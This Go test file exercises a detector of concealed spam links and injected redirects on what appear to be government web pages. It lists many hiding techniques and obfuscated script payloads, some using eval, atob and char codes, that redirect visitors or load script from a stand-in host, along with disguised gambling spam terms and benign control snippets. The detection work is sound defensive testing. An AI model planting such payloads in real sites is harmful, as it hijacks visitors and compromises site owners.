package check

import (
	"strings"
	"testing"
)

// Ways of hiding and sending away met by nobody in the sets: the links' words and hosts are
// neutral, so that only the way itself can give them away.
func TestOtherWaysOfHiding(t *testing.T) {
	const to = "http://www.hengyuan-maoyi.example/n/7.html"
	hidden := map[string]string{
		"translate vw":         `<div style="transform:translate(-120vw)">LINK</div>`,
		"translate percent":    `<div style="position:absolute;transform:translateX(-1000%)">LINK</div>`,
		"translateY":           `<section style="transform:translateY(-200vh)">LINK</section>`,
		"max height and width": `<div style="max-width:0;max-height:0;overflow:hidden">LINK</div>`,
		"behind an absolute":   `<style>.cover{position:absolute;z-index:-5}</style><div class="cover">LINK</div>`,
		"rgba decimals":        `<a style="color:rgba(10, 20, 30, .0)" href="TO">点击进入</a>`,
		"hsl of white":         `<div style="background:hsl(0 0% 100%)"><a style="color:hsl(0deg 0% 99%)" href="TO">点击进入</a></div>`,
		"hsl of a blue":        `<div style="background:hsl(210,50%,40%)"><a style="color:hsl(210,50%,40%)" href="TO">点击进入</a></div>`,
		"named rare":           `<div style="background:aliceblue"><a style="color:aliceblue" href="TO">点击进入</a></div>`,
		"named teal":           `<div style="background:teal"><a style="color:#008080" href="TO">点击进入</a></div>`,
		"rgb percent":          `<div style="background:rgb(100%,100%,100%)"><a style="color:#fff" href="TO">点击进入</a></div>`,
		"inherit of ground":    `<style>.deep{background-color:#e8eef5}.deep p a{color:#e8eef5}</style><div class="deep"><div><p>LINK</p></div></div>`,
		"ink by ancestor":      `<style>.z{color:#fff;background:#fff}.z a{color:inherit}</style><div class="z">LINK</div>`,
		"body ground":          `<style>body{background:#f4f4f4}.z a{color:#f4f4f4}</style><div class="z">LINK</div>`,
		"style in media all":   `<style media="screen, projection">.z{display:none}</style><div class="z">LINK</div>`,
		"media screen and all": `<style>@media screen and (min-width:0){.z{display:none}}</style><div class="z">LINK</div>`,
		"media max huge":       `<style>@media (max-width:99999px){.z{display:none}}</style><div class="z">LINK</div>`,
		"media list":           `<style>@media screen, print{.z{display:none}}</style><div class="z">LINK</div>`,
		"nested amp":           `<style>.w{&.z{visibility:hidden}}</style><div class="w z">LINK</div>`,
		"nested child":         `<style>.w{> .z{font-size:0}}</style><div class="w"><p class="z">LINK</p></div>`,
		"two classes":          `<style>.a1.b1{display:none}</style><div class="a1 b1">LINK</div>`,
		"nth child":            `<style>.w p:nth-child(2){display:none}</style><div class="w"><p>甲</p><p>LINK</p></div>`,
		"first child":          `<style>.w>p:first-child{font-size:0}</style><div class="w"><p>LINK</p><p>乙</p></div>`,
		"last of type":         `<style>.w div:last-of-type{opacity:0}</style><div class="w"><div>甲</div><div>LINK</div></div>`,
		"link pseudo":          `<style>.w a:link{font-size:0}</style><div class="w">LINK</div>`,
		"specific first":       `<style>#w .z{display:none}.z{display:block}</style><div id="w"><div class="z">LINK</div></div>`,
		"id over class":        `<style>#zid{display:none}.show{display:block}</style><div id="zid" class="show">LINK</div>`,
		"two over one class":   `<style>.x1.x2{display:none}.x1{display:block}</style><div class="x1 x2">LINK</div>`,
		"escaped value":        `<div style="display:n\6fne">LINK</div>`,
		"escaped plain":        `<div style="di\splay:none">LINK</div>`,
		"font shorthand px":    `<div style="font:0px/0px SimSun">LINK</div>`,
		"font size calc":       `<div style="font-size:calc(1px - 1px)">LINK</div>`,
		"one pixel box":        `<div style="width:1px;height:1px;overflow:hidden">LINK</div>`,
		"fixed left vw":        `<div style="position:fixed;left:-200vw">LINK</div>`,
		"sticky top":           `<div style="position:absolute;inset-inline-start:-9999px">LINK</div>`,
		"float and margin":     `<div style="float:left;margin-left:-2000px">LINK</div>`,
		"filter opacity":       `<div style="filter:opacity(0%)">LINK</div>`,
		"letter spacing em":    `<div style="letter-spacing:-2em">LINK</div>`,
		"hidden until-found":   `<div hidden="until-found">LINK</div>`,
		"clip circle at":       `<div style="clip-path:circle(0% at 50% 50%)">LINK</div>`,
		"clip inset half":      `<div style="clip-path:inset(50%)">LINK</div>`,
		"clip polygon line":    `<div style="clip-path:polygon(0px 0px,0px 0px,0px 0px,0px 0px)">LINK</div>`,
		"perspective":          `<div style="transform:rotateX(1turn) scale(0)">LINK</div>`,
		"textarea":             `<textarea style="display:none">甲</textarea><div style="display:none">LINK</div>`,
		"frame srcdoc seen":    `<iframe srcdoc="<script>top.location='TO'</script>" style="display:none"></iframe>`,
		"object hidden":        `<object data="TO" type="text/html" style="visibility:hidden"></object>`,
		"embed small":          `<embed src="TO" style="width:1px;height:1px">`,
		"frame in hidden box":  `<div style="height:0;overflow:hidden"><iframe src="TO" width="900" height="600"></iframe></div>`,
		"frame percent zero":   `<iframe src="TO" width="0%" height="0%"></iframe>`,
		"frame made":           `<script>var f=document.createElement("iframe");f.src="TO";f.style.display="none";document.body.appendChild(f)</script>`,
		"frame made, width":    `<script>var f=document.createElement("iframe");f.setAttribute("src","TO");f.width=0;f.height=0;document.body.appendChild(f)</script>`,
		"frame jquery":         `<script>$("body").append('<iframe src="TO" style="display:none"></iframe>')</script>`,
		"link made":            `<script>var a=document.createElement("a");a.href="TO";a.innerHTML="点击进入";a.style.display="none";document.body.appendChild(a)</script>`,
		"link made offscreen":  `<script>var d=document.createElement('div');d.style.cssText='position:absolute;left:-9999px';d.innerHTML='<a href="TO">点击进入</a>';document.body.appendChild(d)</script>`,
		"eval packed base62":   `<script>eval(function(p,a,c,k,e,r){e=String;if(!''.replace(/^/,String)){while(c--)r[c]=k[c]||c;k=[function(e){return r[e]}];e=function(){return'\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c]);return p}('3.4("<5 6=\\"7://8.0-1.2/\\"></5>")',9,9,'hengyuan|maoyi|example|document|write|script|src|http|www'.split('|'),0,{}))</script>`,
		"char codes spread":    `<script>document.write(String.fromCharCode(...[` + codes(`<script src="http://www.hengyuan-maoyi.example/j.js"></script>`) + `]))</script>`,
		"char codes map":       `<script>document.write([` + codes(`<script src="http://www.hengyuan-maoyi.example/j.js"></script>`) + `].map(function(c){return String.fromCharCode(c)}).join(""))</script>`,
		"char codes shifted":   `<script>var s="";"` + shifted(`http://www.hengyuan-maoyi.example/`) + `".split(",").forEach(function(c){s+=String.fromCharCode(c-3)});location.href=s</script>`,
		"decodeURIComponent":   `<script>document.write(decodeURIComponent("%3Ciframe%20src%3D%22http%3A%2F%2Fwww.hengyuan-maoyi.example%22%20width%3D0%3E%3C%2Fiframe%3E"))</script>`,
		"joined array":         `<script>location.href=["http:","","www.hengyuan-maoyi.example","n"].join("/")</script>`,
		"joined characters":    `<script>location.href=["h","t","t","p",":","/","/","h","y",".","e","x","a","m","p","l","e"].join("")</script>`,
		"replace marks":        `<script>location.href="hZZttp://www.hengZZyuan-maoyi.exZZample".replace(/ZZ/g,"")</script>`,
		"timer text":           `<script>setTimeout('window.location="TO"',10)</script>`,
		"new Function":         `<script>new Function("location.href='TO'")()</script>`,
		"named function":       `<script>function go(){window.location.href="TO"}go();</script>`,
		"named later":          `<script>function jump(){location.replace("TO")}window.onload=jump;</script>`,
		"named by timer":       `<script>function jump(){location.replace("TO")}setTimeout(jump,500);</script>`,
		"arrow at load":        `<script>document.addEventListener("DOMContentLoaded",()=>{location.href="TO"})</script>`,
		"referrer list":        `<script>var r=document.referrer;if(/(baidu|sogou|so|sm|google)\.(com|cn)/i.test(r)){window.location.href="TO"}</script>`,
		"referrer var":         `<script>var u="TO",r=document.referrer.toLowerCase();if(r.indexOf("sogou")!=-1||r.indexOf("so.com")!=-1)top.location.href=u;</script>`,
		"ua and cookie":        `<script>if(/android|iphone|ipad/i.test(navigator.userAgent)&&document.cookie.indexOf("seen=1")<0){document.cookie="seen=1";location="TO"}</script>`,
		"assign of bracket":    `<script>if(navigator.userAgent.match(/iPhone/))window["location"]["assign"]("TO")</script>`,
		"storage once":         `<script>if(!localStorage.getItem("v")){localStorage.setItem("v",1);window.location.href="TO"}</script>`,
		"link prefetch":        `<meta http-equiv="Refresh" content="3;URL='TO'">`,
		"conditional of all":   `<!--[if !IE]><!--><div style="display:none">LINK</div><!--<![endif]-->`,
		"svg link":             `<svg width="1" height="1"><a href="TO"><text font-size="0">点击进入</text></a></svg>`,
		"ping":                 `<table style="display:none"><tr><td>LINK</td></tr></table>`,
		"option":               `<p style="display:none">LINK</p>`,
		"line clamp":           `<div style="height:0px;overflow-y:hidden">LINK</div>`,
		"zero grid":            `<div style="display:grid;grid-template-rows:0fr;overflow:hidden;height:0">LINK</div>`,
		"text overflow":        `<div style="text-indent:100%;white-space:nowrap;overflow:hidden">LINK</div>`,
		"script src joined":    `<script>var s=document.createElement("script");s.src="//"+"www.hengyuan"+"-maoyi.example/t.js";document.head.appendChild(s)</script>`,
		"content of noscript":  `<noscript><div><a href="TO">点击进入</a></div></noscript>`,
		"jquery toggle":        `<div id="fz">LINK</div><script>jQuery("#fz").fadeOut(0)</script>`,
		"jquery slide":         `<div id="fz">LINK</div><script>$('#fz').css('height','0').css('overflow','hidden')</script>`,
		"jquery toggle false":  `<div id="fz">LINK</div><script>$('#fz').toggle(false)</script>`,
		"assign styles":        `<div id="fz">LINK</div><script>Object.assign(document.getElementById("fz").style,{position:"absolute",left:"-9999px"})</script>`,
		"ul hidden li":         `<ul style="list-style:none;height:0px;overflow:hidden"><li>LINK</li></ul>`,
		"span abs top%":        `<span style="position:absolute;top:-9999%">LINK</span>`,
		"bottom right tiny":    `<div style="width:0px;height:0px;overflow:hidden;position:absolute">LINK</div>`,
		"p color eq td":        `<table><tr><td bgcolor="#F5F5F5"><p style="color:#f5f5f5"><a style="color:#F5F5F5" href="TO">点击</a></p></td></tr></table>`,
		"font size 0 in span":  `<span style="font-size:0px;line-height:0">LINK</span>`,
		"jq in ready":          `<div id="yq1">LINK</div><script>$(function(){$("#yq1").hide();});</script>`,
		"onload hide":          `<div id="yq1">LINK</div><script>window.onload=function(){document.getElementById("yq1").style.display="none"}</script>`,
		"write var":            `<script>var h='<div style="position:absolute;left:-2000px">';document.write(h);</script>LINK<script>document.write('</div>');</script>`,
		"write pieces":         `<script>document.write('<di'+'v sty'+'le="display:none">');</script>LINK<script>document.write('</d'+'iv>');</script>`,
		"innerHTML var":        `<div id="k"></div><script>var s='<a href="TO" style="display:none">x</a>';document.getElementById("k").innerHTML=s;</script>`,
		"atob var":             `<script>var c="bG9jYXRpb24uaHJlZj0naHR0cDovL3d3dy5oZW5neXVhbi1tYW95aS5leGFtcGxlLyc=";var d=window["atob"](c);eval(d)</script>`,
		"decode twice":         `<script>eval(unescape(unescape("%256c%256f%2563%2561%2574%2569%256f%256e%253d%2527%2568%2574%2574%2570%253a%252f%252f%2577%2577%2577%252e%2568%2565%256e%2567%2579%2575%2561%256e%252d%256d%2561%256f%2579%2569%252e%2565%2578%2561%256d%2570%256c%2565%252f%2527")))</script>`,
		"interval":             `<script>setInterval(function(){if(document.referrer.indexOf("sm.cn")>-1)location.href="TO"},300)</script>`,
		"switch ref":           `<script>switch(true){case /baidu\.com/.test(document.referrer):window.location="TO";break;}</script>`,
		"ua short":             `<script>/mobile/i.test(navigator.userAgent)&&(location.href="TO")</script>`,
		"ternary":              `<script>location.href=/android/i.test(navigator.userAgent)?"TO":"/index.html"</script>`,
		"img onerror":          `<img src="x" onerror="location='TO'">`,
		"svg onload":           `<svg onload="location.href='TO'"></svg>`,
		"iframe js":            `<iframe src="javascript:location='TO'" style="display:none"></iframe>`,
		"fixed cover a":        `<a href="TO" style="position:fixed;top:0;left:0;width:100%;height:100%;opacity:0;z-index:9999"></a>`,
		"label overflow":       `<div style="position:relative;overflow:hidden;height:1px"><div style="position:absolute;top:20px">LINK</div></div>`,
		"td width0":            `<table width="0" height="0" style="overflow:hidden;display:block;height:0"><tr><td>LINK</td></tr></table>`,
		"layer, hide":          `<layer visibility="hide">LINK</layer><div style="visibility: hidden ;">LINK</div>`,
		"div after html":       `</body></html><div style="display:none">LINK</div>`,
		"class twice":          `<style>.x{display:block}</style><style>.x{display:none}</style><div class="x">LINK</div>`,
		"var in root dark":     `<style>:root{--h:-9999px}.x{position:absolute;left:var(--h)}</style><div class="x">LINK</div>`,
		"color-mix white":      `<style>body{background:#fff}.y a{color:rgb(255 255 255)}</style><div class="y">LINK</div>`,
	}
	words := map[string]string{
		"zero width":        "<p>欢迎来到时\u200b时\u200c彩平台</p>",
		"full width":        `<a href="TO">ｂｅｔ３６５</a>`,
		"traditional":       `<a href="TO">澳門賭場</a>`,
		"traditional 2":     `<a href="TO">線上博彩投注</a>`,
		"hex entities":      `<a href="TO">&#x65F6;&#x65F6;&#x5F69;</a>`,
		"dec entities":      `<a href="TO">&#26102;&#26102;&#24425;</a>`,
		"spaces":            `<p>百 家 乐</p>`,
		"signs":             `<p>老*虎*机</p>`,
		"title":             `<title>百家乐在线</title>`,
		"traditional title": `<title>澳門賭場_線上娛樂城</title>`,
		"alt":               `<a href="TO"><img src="/a.gif" alt="真人百家乐"></a>`,
		"hidden trad":       `<div style="display:none">百家樂 老虎機</div>`,
		"circled":           `<a href="TO">ⓑⓔⓣ③⑥⑤</a>`,
		"bold math":         `<a href="TO">𝐛𝐞𝐭𝟑𝟔𝟓</a>`,
	}
	say := func(name, body string, want bool) {
		t.Helper()
		body = strings.ReplaceAll(strings.ReplaceAll(body, "LINK", `<a href="TO">点击进入</a>`), "TO", to)
		src := article("", `<div class="foot">`+body+`</div>`)
		if strings.HasPrefix(body, "<title>") {
			src = strings.Replace(article("", ""), "<title>某市召开专题会议_某市人民政府</title>", body, 1)
		}
		p := parse(t, src)
		says := ""
		for _, f := range Run(Facts{Page: p, Class: ClassContent}) {
			if strings.HasPrefix(f.Check, "concealed.") && f.Outcome == Violated {
				says += f.Check + " " + f.Says + "; "
			}
		}
		if got := says != ""; got != want {
			t.Errorf("%s: found %v %s", name, got, says)
		}
	}
	for n, b := range hidden {
		say(n, b, true)
	}
	for n, b := range words {
		say("words "+n, b, true)
	}
	for n, b := range map[string]string{
		"tabs":                     `<style>.tab-pane{display:none}.tab-pane.active{display:block}</style><ul class="nav"><li><a href="#a">政务</a></li><li><a href="#b">民生</a></li></ul><div class="tab-pane active" id="a"><a href="/1">甲</a></div><div class="tab-pane" id="b"><a href="/2">乙</a><a href="http://www.shaanxi.gov.cn/3">丙</a></div>`,
		"accordion":                `<div class="collapse" style="height:0;overflow:hidden"><a href="/zwgk/1">公开指南</a><a href="/zwgk/2">公开年报</a></div>`,
		"mobile menu":              `<nav style="position:fixed;left:-280px;width:280px"><a href="/">首页</a><a href="http://zwfw.shaanxi.gov.cn">办事</a></nav>`,
		"mobile menu far":          `<nav style="transform:translateX(-100%)"><a href="/">首页</a><a href="http://zwfw.shaanxi.gov.cn">办事</a></nav>`,
		"skip links":               `<div style="position:absolute;top:-1000px"><a href="#nav">导航区</a><a href="#main">内容区</a></div>`,
		"sr text":                  `<a href="/wza"><span style="position:absolute;clip:rect(0 0 0 0);width:1px;height:1px;overflow:hidden">进入无障碍浏览</span></a>`,
		"print":                    `<style>@media print{a,.foot,nav{display:none!important}}</style><a href="http://www.qinling-museum.com">某博物馆</a>`,
		"lazy":                     `<img data-src="/a.jpg" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" width="300"><a href="http://www.qinling-museum.com"><img class="lazy" data-original="/l.png" src="/blank.gif" width="120" height="40" alt="某博物馆"></a>`,
		"modal":                    `<div class="modal" style="display:none"><p>您将离开本网站</p><a href="javascript:void(0)" onclick="closeTip()">取消</a><a id="outGo" href="#">确定</a></div>`,
		"leave script":             `<script>$("a").click(function(){var u=this.href;if(u.indexOf("gov.cn")<0){$("#outGo").attr("href",u)}})</script>`,
		"language":                 `<div class="lang"><a href="/en/">English</a><a href="/big5/">繁體</a></div><script>function zh_tran(l){location.href="/"+l+"/"}</script>`,
		"honeypot":                 `<form action="/letter"><input name="url" style="position:absolute;left:-9999px" tabindex="-1"><input type="hidden" name="csrf" value="a"></form>`,
		"json ld":                  `<script type="application/ld+json">{"@context":"https://schema.org","@type":"BreadcrumbList","itemListElement":[{"item":"https://www.example.gov.cn/a"}]}</script>`,
		"json ld other":            `<script type="application/ld+json">{"@context":"https://schema.org","sameAs":["https://www.qinling-museum.com/"]}</script>`,
		"stat baidu":               `<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?abc";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s)})();</script>`,
		"stat own":                 `<script>document.write(unescape("%3Cscript src='"+(("https:"==document.location.protocol)?"https://":"http://")+"tongji.example.gov.cn/t.js'%3E%3C/script%3E"))</script>`,
		"stat 51la":                `<script>!function(p){"use strict";!function(t){var s=window,e=document,i=p,c="".concat("https:"===e.location.protocol?"https://":"http://","sdk.51.la/js-sdk-pro.min.js"),n=e.createElement("script"),r=e.getElementsByTagName("script")[0];n.type="text/javascript",n.setAttribute("charset","UTF-8"),n.async=!0,n.src=c,n.id="LA_COLLECT",i.d=n;r.parentNode.insertBefore(n,r)}()}({id:"x",ck:"x"});</script>`,
		"share":                    `<div class="share" style="display:none"><a href="https://connect.qq.com/widget/shareqq/index.html?url=https://www.example.gov.cn/1">QQ</a><a href="https://service.weibo.com/share/share.php?url=x">微博</a><a href="https://www.douban.com/share">豆瓣</a></div>`,
		"map":                      `<iframe src="https://uri.amap.com/marker?position=108.9,34.2" width="600" height="400"></iframe><div id="map" style="height:300px"></div>`,
		"select closed":            `<select onchange="window.open(this.value)"><option>--各市网站--</option><option value="http://www.beijing.gov.cn">北京</option><option value="http://www.hbhlc.com">某集团</option></select>`,
		"drop of gov":              `<ul class="sub" style="visibility:hidden"><li><a href="http://www.mof.gov.cn">财政部</a></li><li><a href="http://www.most.gov.cn">科技部</a></li></ul>`,
		"list of friends":          `<div class="yqlj-list" style="display:none"><a href="http://www.beijing.gov.cn">北京</a><a href="http://www.sh.gov.cn">上海</a><a href="http://www.sxdaily.com.cn">陕西日报</a><a href="http://www.xjtu.edu.cn">西安交大</a><a href="http://www.qinling-museum.com">某博物馆</a></div>`,
		"fraud notice":             `<p>关于防范电信网络诈骗的提醒：凡是“刷单返利”、网络贷款、冒充客服退款的都是诈骗，不要点击陌生链接，不要下载陌生APP。</p>`,
		"gambling notice":          `<p>市公安局关于敦促跨境赌博违法犯罪嫌疑人投案自首的通告：凡参与境外赌场、百家乐、老虎机、时时彩等网络赌博的，应当投案。</p>`,
		"lottery":                  `<p>2024年第一季度福利彩票、体育彩票销售情况公告：双色球、快乐8、大乐透、竞彩销量同比增长，投注站共1520个。</p><a href="http://www.sxlottery.com/gg/1.html">体育彩票公益金使用情况公告</a>`,
		"medicine":                 `<p>麻醉药品和精神药品管理条例所称精神药品包括三唑仑、氯胺酮等；医疗用毒性药品包括砒霜。</p>`,
		"discipline":               `<p>某某违反生活纪律，搞权色交易、钱色交易，参与赌博，收受礼金，被开除党籍、开除公职。</p>`,
		"arms":                     `<p>公安部关于收缴非法枪支弹药爆炸物品的通告：严禁私藏气枪、手枪、炸药、雷管、弓弩。</p>`,
		"named function":           `<script>function goBank(){window.location.href="http://www.qinling-museum.com/"}</script><a href="javascript:goBank()">某博物馆</a>`,
		"named by click":           `<script>function toBank(){location.href="http://www.qinling-museum.com/"}document.getElementById("b").onclick=toBank;$("#c").on("click",toBank);</script>`,
		"nth striping":             `<style>tr:nth-child(2n){background:#f5f5f5}li:last-child{border:0}.nav li:first-child a{color:#fff}</style><ul class="nav"><li><a href="http://www.qinling-museum.com">某博物馆</a></li></ul>`,
		"hover shown":              `<style>.erweima{display:none}li:hover .erweima{display:block}</style><li>微信<div class="erweima"><img src="/wx.png"><a href="https://mp.weixin.qq.com/x">关注</a></div></li>`,
		"white by class":           `<style>.top{background:linear-gradient(#06c,#048)}.top a{color:#fff}</style><div class="top"><a href="http://www.qinling-museum.com">某博物馆</a></div>`,
		"white on inner":           `<style>body{background:#fff}.b{background:#c00}.b a{color:#fff}</style><div class="b"><ul><li><a href="http://www.qinling-museum.com">某博物馆</a></li></ul></div>`,
		"text-indent logo":         `<a href="http://www.example.gov.cn/" style="text-indent:-9999px;display:block;background:url(/logo.png)">某市人民政府</a>`,
		"blog ticker":              `<div style="overflow:hidden;height:30px"><ul style="margin-top:-30px"><li><a href="http://www.qinling-museum.com">某博物馆</a></li></ul></div>`,
		"weather frame":            `<iframe src="https://i.tianqi.com/index.php?c=code" width="225" height="20" frameborder="0"></iframe>`,
		"video":                    `<script>var player=new Player({url:"https://vod.qinling-video.com/a.mp4",poster:"/p.jpg"})</script>`,
		"ie comment":               `<!--[if lt IE 9]><script src="https://cdn.bootcss.com/html5shiv/3.7.3/html5shiv.min.js"></script><![endif]-->`,
		"ie upgrade":               `<!--[if lt IE 8]><p>您的浏览器版本过低，请<a href="https://www.firefox.com.cn/">升级</a></p><![endif]-->`,
		"mobile own":               `<script>var ua=navigator.userAgent;if(/(iPhone|Android|Mobile)/i.test(ua)&&location.search.indexOf("pc")<0){window.location.href="https://m.example.gov.cn"+location.pathname}</script>`,
		"https":                    `<script>if(window.location.protocol!="https:"){window.location.href="https:"+window.location.href.substring(5)}</script>`,
		"login own":                `<script>function login(){var u=encodeURIComponent(location.href);location.href="https://sfrz.shaanxi.gov.cn/sso?back="+u}login();</script>`,
		"traditional plain":        `<p>港澳臺居民辦理出入境證件須知：請攜帶有效證件，到當地公安機關辦理。</p>`,
		"banner float":             `<div id="ad" style="position:absolute;left:0;top:0"><a href="http://www.qinling-museum.com"><img src="/f.gif" width="200" height="100"></a></div>`,
		"gallery":                  `<div style="width:0;height:0;overflow:hidden"><img src="/wxshare.jpg"></div>`,
		"array join own":           `<script>var html=[];html.push("<li><a href='/a'>甲</a></li>");$("#l").html(html.join(""));var u=["","zwgk","1.html"].join("/");</script>`,
		"replace own":              `<script>var t=document.title.replace(/_/g,"-");var u=location.href.replace("http://","https://");</script>`,
		"line height":              `<h1 style="line-height:0;overflow:visible"><a href="http://www.qinling-museum.com"><img src="/l.png"></a></h1>`,
		"fade out loader":          `<div id="loading">加载中</div><script>$(window).load(function(){$("#loading").fadeOut()})</script>`,
		"indent 2em":               `<p style="text-indent:2em">详见<a href="http://www.qinling-museum.com">某博物馆</a>。</p>`,
		"flip hidden back":         `<div style="backface-visibility:hidden"><a href="http://www.qinling-museum.com">某博物馆</a></div>`,
		"swiper":                   `<style>.swiper-slide{opacity:0}.swiper-slide-active{opacity:1}</style><div class="swiper-slide"><a href="/1"><img src="/1.jpg"></a></div><div class="swiper-slide"><a href="http://www.shaanxi.gov.cn/x"><img src="/2.jpg"></a></div>`,
		"layui":                    `<script src="/js/layui.js"></script><script>layui.use(['layer','form'],function(){var layer=layui.layer;layer.open({content:'<a href="/a">下载</a>'})});</script>`,
		"vue":                      `<div id="app" v-cloak style="display:none"><a href="/api">接口</a></div><script>new Vue({el:"#app",data:{url:"https://data.example.gov.cn"}})</script>`,
		"wx share":                 `<script src="https://res.wx.qq.com/open/js/jweixin-1.6.0.js"></script><script>wx.config({appId:"x",jsApiList:["updateAppMessageShareData"]});wx.ready(function(){wx.updateAppMessageShareData({title:"t",link:location.href,imgUrl:"https://www.example.gov.cn/l.png"})})</script>`,
		"baidu push":               `<script>(function(){var bp=document.createElement('script');var p=window.location.protocol.split(':')[0];if(p==='https'){bp.src='https://zz.bdstatic.com/linksubmit/push.js';}else{bp.src='http://push.zhanzhang.baidu.com/push.js';}var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(bp,s);})();</script>`,
		"conac":                    `<script type="text/javascript">document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='https://dcs.conac.cn/js/27/000/0000/00000000/CA270000000000000000001.js' type='text/javascript'%3E%3C/script%3E"));</script>`,
		"jiucuo":                   `<span id="_span_jiucuo"></span><script type="text/javascript" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>`,
		"gonganwang":               `<a target="_blank" href="http://www.beian.gov.cn/portal/registerSystemInfo?recordcode=61"><img src="/ga.png">陕公网安备</a> <a href="https://beian.miit.gov.cn/">陕ICP备</a>`,
		"kf float":                 `<div id="kf" style="position:fixed;right:-120px"><a href="https://kf.qq.com/x">智能客服</a></div>`,
		"pdf viewer":               `<iframe src="/pdfjs/web/viewer.html?file=/a.pdf" width="100%" height="800"></iframe>`,
		"video embed":              `<iframe src="https://player.bilibili.com/player.html?bvid=1" width="640" height="360" allowfullscreen></iframe>`,
		"jquery named":             `<script>function initMenu(){$(".menu li").hover(function(){$(this).find("ul").show()},function(){$(this).find("ul").hide()})}$(document).ready(initMenu);</script><ul class="menu"><li><ul><li><a href="http://www.qinling-museum.com">某博物馆</a></li></ul></li></ul>`,
		"login redirect":           `<script>function checkLogin(){if(!getCookie("t")){location.href="/login?back="+encodeURIComponent(location.href)}}checkLogin();</script>`,
		"external tip":             `<script>function openOut(u){if(confirm("您将离开本站")){window.open(u)}}</script><a href="javascript:openOut('http://www.qinling-museum.com')">某博物馆</a>`,
		"make a download":          `<script>function dl(u,n){var a=document.createElement("a");a.href=u;a.download=n;a.style.display="none";document.body.appendChild(a);a.click()}</script>`,
		"make iframe own":          `<script>var f=document.createElement("iframe");f.src="/heartbeat";f.style.display="none";document.body.appendChild(f)</script>`,
		"make div map":             `<script>var d=document.createElement("div");d.innerHTML='<a href="https://map.baidu.com/">百度地图</a>';d.style.display="none";document.body.appendChild(d)</script>`,
		"array join of a service":  `<script>var api=["https://","api.map.baidu.com","/v3"].join("");var list=["a","b","c"].join(",");</script>`,
		"replace in text":          `<script>var t="2024-05-06".replace(/-/g,"");var s='a,b,c'.split(',').join('');</script>`,
		"nth menu":                 `<style>.more li:nth-child(6){display:none}</style><ul class="more"><li><a href="/1">a</a></li></ul><ul class="friend"><li><a href="http://www.qinling-museum.com">某博物馆</a></li></ul>`,
		"logo text indent 100":     `<h1 style="text-indent:100%;white-space:nowrap;overflow:hidden;background:url(/l.png)"><a href="/">某市人民政府</a></h1>`,
		"ellipsis":                 `<div style="white-space:nowrap;overflow:hidden;text-overflow:ellipsis;width:200px"><a href="http://www.qinling-museum.com">某博物馆</a></div>`,
		"dark footer named colour": `<div style="background:navy"><a style="color:aliceblue" href="http://www.qinling-museum.com">某博物馆</a></div>`,
		"white on body img":        `<style>body{background:#fff url(/bg.png)}.f a{color:#fff}</style><div class="f"><a href="http://www.qinling-museum.com">某博物馆</a></div>`,
	} {
		say("honest "+n, b, false)
	}
}

// shifted are the codes of a text, three higher.
func shifted(s string) string {
	var b []string
	for _, r := range s {
		b = append(b, itoa(int(r)+3))
	}
	return strings.Join(b, ",")
}
